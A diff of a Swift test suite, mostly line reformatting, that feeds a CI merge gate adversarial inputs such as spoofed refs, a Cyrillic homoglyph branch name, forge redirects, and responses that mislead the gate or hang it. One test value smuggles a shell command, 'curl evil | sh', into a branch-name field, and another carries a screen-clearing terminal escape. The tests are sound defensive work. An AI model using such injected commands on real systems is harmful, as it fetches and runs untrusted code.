@@ -26,31 +26,63 @@ struct GateLie: Sendable, CustomTestStringConvertible {
 
   static let all = [
     // What is judged.
-    GateLie(says: "the request's ref holds a better head than the event", refs: ["refs/pull/1/head": "$SECOND"], status: 1, text: "judged is the event's head", published: "failure"),
-    GateLie(says: "the event is about a commit that nobody has", head: "$NONE", status: 2, text: "which is not in this clone"),
+    GateLie(
+      says: "the request's ref holds a better head than the event", refs: ["refs/pull/1/head": "$SECOND"], status: 1,
+      text: "judged is the event's head", published: "failure"),
+    GateLie(
+      says: "the event is about a commit that nobody has", head: "$NONE", status: 2, text: "which is not in this clone"),
     GateLie(says: "the event's head is a file", head: "$BLOB", status: 2, text: "which is not in this clone"),
     GateLie(says: "the event's head is a branch's name", head: "staging", status: 64),
     GateLie(says: "the event's head is an option", head: "--all", status: 64),
     GateLie(says: "the event is another repository's", repository: "\"eve/stagex\"", status: 64),
     GateLie(says: "the event is of another kind", event: "issue_comment", status: 64),
-    GateLie(says: "the target is a branch that its own rules protect", base: "\"trap\"", refs: ["refs/remotes/origin/trap": "$EVIL"], status: 64, text: "is not protected here"),
-    GateLie(says: "the target is staging with a Cyrillic letter", base: "\"st\\u0430ging\"", refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64),
+    GateLie(
+      says: "the target is a branch that its own rules protect", base: "\"trap\"",
+      refs: ["refs/remotes/origin/trap": "$EVIL"], status: 64, text: "is not protected here"),
+    GateLie(
+      says: "the target is staging with a Cyrillic letter", base: "\"st\\u0430ging\"",
+      refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64),
     GateLie(says: "the target holds a command", base: "\"x\\\"; curl evil | sh; \\\"\"", status: 64),
     GateLie(says: "the target is the remote's HEAD", base: "\"HEAD\"", status: 64),
-    GateLie(says: "the server showed staging at a commit by nobody", refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1),
-    GateLie(says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1),
-    GateLie(says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1),
-    GateLie(says: "the server showed staging as it was", refs: ["refs/remotes/origin/staging": "$START"], status: 1, published: "failure"),
-    GateLie(says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"], status: 1),
+    GateLie(
+      says: "the server showed staging at a commit by nobody",
+      refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1),
+    GateLie(
+      says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1),
+    GateLie(
+      says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1),
+    GateLie(
+      says: "the server showed staging as it was", refs: ["refs/remotes/origin/staging": "$START"], status: 1,
+      published: "failure"),
+    GateLie(
+      says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"], status: 1
+    ),
     GateLie(says: "the server showed no staging", refs: ["refs/remotes/origin/staging": ""], status: 2),
     // Where it is published. The verdict is the same, whatever the forge says.
-    GateLie(says: "the forge does not answer", rules: [#"{"path": "^/api/", "do": {"delay": 30}}"#], status: 1, text: "not published: "),
-    GateLie(says: "the forge falls silent after the first status", rules: [#"{\#(posts), "skip": 1, "do": {"delay": 30}}"#], status: 1, text: "not published: "),
-    GateLie(says: "the forge sends the status on to another host", rules: [#"{\#(posts), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#], status: 1, text: "sends us on to"),
-    GateLie(says: "the forge refuses in words that clear the screen", rules: [#"{\#(posts), "do": {"reply": {"status": 403, "body": "{\"message\": \"\\u001b[2Jno\"}"}}}"#], status: 1, text: #"\x1b[2Jno"#),
-    GateLie(says: "the forge says that it was green", rules: [#"{\#(posts), "do": {"patch": {"status": "success"}}}"#], status: 1, published: "failure"),
-    GateLie(says: "the list of comments never ends", rules: [#"{\#(comments), "method": "GET", "do": {"endless": true}}"#], status: 1, text: "too large", published: "failure"),
-    GateLie(says: "the list of comments is a page", rules: [#"{\#(comments), "method": "GET", "do": {"reply": {"body": "<html>"}}}"#], status: 1, text: "not published: ", published: "failure"),
+    GateLie(
+      says: "the forge does not answer", rules: [#"{"path": "^/api/", "do": {"delay": 30}}"#], status: 1,
+      text: "not published: "),
+    GateLie(
+      says: "the forge falls silent after the first status", rules: [#"{\#(posts), "skip": 1, "do": {"delay": 30}}"#],
+      status: 1, text: "not published: "),
+    GateLie(
+      says: "the forge sends the status on to another host",
+      rules: [#"{\#(posts), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#],
+      status: 1, text: "sends us on to"),
+    GateLie(
+      says: "the forge refuses in words that clear the screen",
+      rules: [#"{\#(posts), "do": {"reply": {"status": 403, "body": "{\"message\": \"\\u001b[2Jno\"}"}}}"#], status: 1,
+      text: #"\x1b[2Jno"#),
+    GateLie(
+      says: "the forge says that it was green", rules: [#"{\#(posts), "do": {"patch": {"status": "success"}}}"#],
+      status: 1, published: "failure"),
+    GateLie(
+      says: "the list of comments never ends", rules: [#"{\#(comments), "method": "GET", "do": {"endless": true}}"#],
+      status: 1, text: "too large", published: "failure"),
+    GateLie(
+      says: "the list of comments is a page",
+      rules: [#"{\#(comments), "method": "GET", "do": {"reply": {"body": "<html>"}}}"#], status: 1,
+      text: "not published: ", published: "failure"),
   ]
 }
 
@@ -70,12 +102,15 @@ extension ForgeLieWorld {
       """
     try CosignServer.write("\(clone)/.git/event.json", Array(event.utf8))
     let environment = [
-      "CI": "true", "FORGEJO_EVENT_NAME": lie.event, "FORGEJO_EVENT_PATH": "\(clone)/.git/event.json", "FORGEJO_REPOSITORY": "stagex/stagex",
+      "CI": "true", "FORGEJO_EVENT_NAME": lie.event, "FORGEJO_EVENT_PATH": "\(clone)/.git/event.json",
+      "FORGEJO_REPOSITORY": "stagex/stagex",
       "FORGEJO_API_URL": "\(forge.url)/api/v1", "MAINT_TOKEN": forge.token(of: "alice"),
     ]
     let told = ForgeLie(says: lie.says, rules: lie.rules)
     let result = try meet(told, ["gate"] + lie.words, in: clone, extra: environment)
-    #expect(result.status == lie.status && result.all.contains(lie.text), "\(lie.says): \(result.status) \(result.all)", sourceLocation: location)
+    #expect(
+      result.status == lie.status && result.all.contains(lie.text), "\(lie.says): \(result.status) \(result.all)",
+      sourceLocation: location)
     let states = try forge.forge("show").matches(of: #/"status": "(\w+)"/#).map { String($0.1) }
     #expect(states.last { $0 != "pending" } == lie.published, "\(lie.says): \(states)", sourceLocation: location)
     if lie.status != 0 { #expect(!states.contains("success"), "\(lie.says): \(states)", sourceLocation: location) }
@@ -84,12 +119,15 @@ extension ForgeLieWorld {
 
 /// The gate of a CI, lied to. The honest forge, with a request that may be merged, is the twin.
 @Suite(
-  .enabled(if: VirtualCard.isPossible && TestForge.isPossible, "needs gnupg, scdaemon, cc, git, curl and python3-cryptography"))
+  .enabled(
+    if: VirtualCard.isPossible && TestForge.isPossible, "needs gnupg, scdaemon, cc, git, curl and python3-cryptography")
+)
 struct GateLiesTests {
   @Test func `Of the lies that reach the gate each is told, or fools nobody`() throws {
     let world = try ForgeLieWorld()
     for lie in GateLie.all { try world.gate(lie) }
     try world.gate(GateLie(says: "none, of a request that lacks people", status: 1, published: "failure"))
-    try world.gate(GateLie(says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0, published: "success"))
+    try world.gate(
+      GateLie(says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0, published: "success"))
   }
 }
